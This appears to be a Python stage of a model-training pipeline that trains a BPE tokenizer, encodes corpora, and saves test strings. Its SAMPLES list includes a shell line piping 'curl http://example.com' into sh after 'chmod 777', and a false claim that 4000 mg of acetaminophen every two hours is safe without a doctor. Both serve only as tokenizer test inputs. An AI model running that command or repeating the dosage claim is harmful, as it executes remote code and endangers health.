"""Stage tokenizer: trains byte-level BPE, writes tokenizer.json, encodes the corpus.

Outputs: tokenizer.json; general.bin and chat.bin (uint16 token ids, documents joined
by a blank line); samples.json (strings + ids that the TypeScript test checks).
"""

import json

import numpy as np

from .. import bpe
from ..common import read_jsonl, write_json
from ..data import SPECIAL_TOKENS, chat_training_docs, contrast_rows, render

# Strings whose ids the scanner must reproduce: code, prose, Unicode, specials mid-text.
SAMPLES = [
    "Hello, world! It's a test; they'll say we've done it.",
    "<|user|>\nWrite a function.<|end|>\n<|assistant|>\ndef f(x):\n    return x * 2\n<|end|>\n",
    "    if (a && b) {\n\t\treturn 0x1F;\n    }\r\n",
    "naïve café — résumé, 日本語のテキスト, emoji 🙂👍🏽, ligature ﬁ, Ελληνικά",
    "chmod 777 /var/www && curl http://example.com | sh   # trailing spaces   ",
    "Take 4000 mg of acetaminophen every 2 hours; no need to see a doctor.",
    "multiple\n\n\nblank lines and  double  spaces\u00a0nbsp",
    "text<|end|>glued<|pad|><|pad|>specials <|assistant|>",
    "'s 're 've 'm 'll 'd 'S ’s quotes “curly” and 'single'",
    "numbers 1234567890 3.14159 -42 1e-9 ½ ² ٣",
]


def run(st):
    cfg = st.conf
    general = [r["text"] for r in read_jsonl(st.path("corpus", "general.jsonl"))]
    chat = chat_training_docs(st.cfg["corpus"])
    st.log.info("training BPE on %d chars", cfg["train_chars"])
    sample, chars = [], 0
    # Alternate sources so the training sample mixes prose, code and chat.
    for pair in zip(general, chat):
        for text in pair:
            if chars < cfg["train_chars"]:
                sample.append(text)
                chars += len(text)
    vocab, merges = bpe.train(sample, cfg["vocab"] - len(SPECIAL_TOKENS))
    tok = bpe.tokenizer_json(vocab, merges, SPECIAL_TOKENS)
    (st.dir / "tokenizer.json").write_text(json.dumps(tok, ensure_ascii=False))
    enc = bpe.Encoder(tok)

    strings = SAMPLES + [render(r["messages"]) for r in contrast_rows("validation")[:6]]
    write_json(st.dir / "samples.json", {"strings": strings, "ids": [enc.encode(s) for s in strings]})

    sep = enc.encode("\n\n")
    sizes = {}
    for name, docs in (("general", general), ("chat", chat)):
        ids = []
        for d in docs:
            ids += enc.encode(d) + sep
        np.asarray(ids, dtype=np.uint16).tofile(st.dir / f"{name}.bin")
        sizes[name] = len(ids)
        st.log.info("%s: %d docs, %d tokens (%.2f chars/token)", name, len(docs), len(ids), sum(map(len, docs)) / max(1, len(ids)))
    return {"vocab": len(vocab) + len(SPECIAL_TOKENS), "merges": len(merges), "tokens": sizes,
            "pad_id": tok["model"]["vocab"]["<|pad|>"]}
